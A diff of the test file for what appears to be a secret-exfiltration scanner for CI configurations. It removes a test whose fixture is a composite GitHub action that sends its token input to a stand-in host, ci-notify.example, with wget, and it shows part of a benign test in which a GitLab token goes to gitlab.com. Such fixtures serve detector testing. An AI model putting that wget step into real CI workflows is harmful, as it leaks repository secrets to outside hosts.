@@ -238,11 +238,7 @@ describe("across two scripts, and encodings held in variables", () => {
   });
 });
 
-describe("secrets a CI step or a quoted string holds", () => {
-  it("a composite action's token input sent to another host from its run step", () => {
-    const s = scanOf({ "action.yml": "name: notify\ninputs:\n  api-token: { required: true }\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        HOOK_TOKEN: ${{ inputs.api-token }}\n      run: |\n        wget -qO- \"https://ci-notify.example/n?k=${HOOK_TOKEN}&sha=${{ github.sha }}\"\n" });
-    expect(rules(s)).toContain("SR-EXFIL-009");
-  });
+describe("vendor prefixes of secret variables", () => {
   it("honest: a token sent to its own vendor inside a quoted header, a Datadog key to Datadog", () => {
     const s = scanOf({
       "scripts/gl.sh": '#!/bin/bash\ncurl -fsS -H "PRIVATE-TOKEN: $GITLAB_TOKEN" "https://gitlab.com/api/v4/projects"\n',
